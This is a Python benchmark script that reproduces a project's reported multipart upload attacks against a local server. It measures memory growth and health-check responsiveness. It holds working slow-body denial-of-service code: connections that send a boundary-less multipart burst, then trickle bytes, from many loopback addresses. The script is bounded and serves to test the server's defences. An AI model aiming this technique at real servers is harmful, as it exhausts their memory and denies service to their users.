"""The multipart attacks of issue 27 against one running server, with its
memory sampled throughout: prints RSS before, the peak during, the growth,
and whether /healthz kept answering. Run by benches/multipart.sh.

Attack "selfie": CONNS connections, each from its own loopback address
(127.0.0.10, .11, ...), POST a multipart selfie that never sends its
boundary to /api/v1/albums/{any id}/find-me, no account needed: a burst
of BURST_KIB, then a byte every TRICKLE seconds, held for HOLD seconds.
Attack "upload": UPLOADS connections of one photographer do the same to
their own album's /photos with UPLOAD_MIB each.

Environment: PROOFSHEET_URL, SERVER_PID, TOKEN, ALBUM; the sizes above.
Loopback only; every loop is bounded in count and time.
"""
import asyncio
import os
import time
import urllib.parse
import uuid

import requests

BASE = os.environ["PROOFSHEET_URL"]
PID = int(os.environ["SERVER_PID"])
TOKEN = os.environ["TOKEN"]
ALBUM = os.environ["ALBUM"]
CONNS = int(os.environ.get("CONNS", "40"))
UPLOADS = int(os.environ.get("UPLOADS", "20"))
BURST_KIB = int(os.environ.get("BURST_KIB", str(14 * 1024)))
UPLOAD_MIB = int(os.environ.get("UPLOAD_MIB", "64"))
TRICKLE = float(os.environ.get("TRICKLE", "2"))
HOLD = float(os.environ.get("HOLD", "20"))

host, port = urllib.parse.urlsplit(BASE).netloc.split(":")
port = int(port)


def rss_mib():
    with open(f"/proc/{PID}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


async def attacker(source, path, token, burst, deadline, outcome):
    """One held connection: headers for a big multipart body, `burst`
    bytes without a boundary, then a byte now and then until `deadline`."""
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(host, port, local_addr=(source, 0)), timeout=5
        )
    except Exception as e:  # noqa: BLE001 - refused is an outcome
        outcome["refused"] += 1
        return
    length = burst + 1024 * 1024  # within the route's body limit, so it is read
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {host}\r\n"
        f"Content-Type: multipart/form-data; boundary=never-sent\r\nContent-Length: {length}\r\n"
        + (f"Authorization: Bearer {token}\r\n" if token else "")
        + "\r\n"
    ).encode()
    try:
        writer.write(head)
        chunk = b"a" * 65536
        sent = 0
        while sent < burst and time.time() < deadline:
            writer.write(chunk)
            await asyncio.wait_for(writer.drain(), timeout=10)
            sent += len(chunk)
        while time.time() < deadline:
            if reader.at_eof():
                break
            writer.write(b"a")
            await asyncio.wait_for(writer.drain(), timeout=10)
            try:
                line = await asyncio.wait_for(reader.readline(), timeout=TRICKLE)
                if line:
                    outcome["answered"] += 1
                    outcome["statuses"].add(line.decode(errors="replace").strip())
                    break
            except asyncio.TimeoutError:
                pass
        else:
            outcome["held"] += 1
    except Exception:  # noqa: BLE001 - a reset is the server refusing
        outcome["reset"] += 1
    finally:
        writer.close()


async def sampler(deadline, samples):
    while time.time() < deadline:
        samples.append(rss_mib())
        await asyncio.sleep(0.2)


async def health(deadline, seen):
    loop = asyncio.get_running_loop()
    while time.time() < deadline:
        started = time.time()
        try:
            ok = await loop.run_in_executor(None, lambda: requests.get(f"{BASE}/healthz", timeout=5).ok)
        except Exception:  # noqa: BLE001
            ok = False
        seen.append((ok, time.time() - started))
        await asyncio.sleep(0.5)


async def attack(name, targets):
    outcome = {"answered": 0, "held": 0, "reset": 0, "refused": 0, "statuses": set()}
    before = rss_mib()
    samples, checks = [], []
    deadline = time.time() + HOLD
    await asyncio.gather(
        sampler(deadline + 1, samples),
        health(deadline, checks),
        *(attacker(src, path, tok, burst, deadline, outcome) for src, path, tok, burst in targets),
    )
    peak = max(samples) if samples else before
    ok = sum(1 for c in checks if c[0])
    slowest = max((c[1] for c in checks), default=0.0)
    print(
        f"{name:8} {len(targets):5} {before:10.1f} {peak:10.1f} {peak - before:10.1f} "
        f"{ok:>4}/{len(checks):<4} {slowest * 1000:9.0f} ms  "
        f"answered {outcome['answered']}, reset {outcome['reset']}, refused {outcome['refused']}, "
        f"held {outcome['held']} {sorted(outcome['statuses'])}",
        flush=True,
    )


def main():
    print(f"{'attack':8} {'conns':>5} {'RSS before':>10} {'RSS peak':>10} {'growth':>10} {'healthz':>9} {'slowest':>12}  what the attackers saw")
    selfie = [
        (f"127.0.0.{10 + i % 200}", f"/api/v1/albums/{uuid.uuid4()}/find-me", None, BURST_KIB * 1024) for i in range(CONNS)
    ]
    asyncio.run(attack("selfie", selfie))
    upload = [("127.0.0.2", f"/api/v1/albums/{ALBUM}/photos", TOKEN, UPLOAD_MIB * 1024 * 1024) for _ in range(UPLOADS)]
    asyncio.run(attack("upload", upload))


if __name__ == "__main__":
    main()
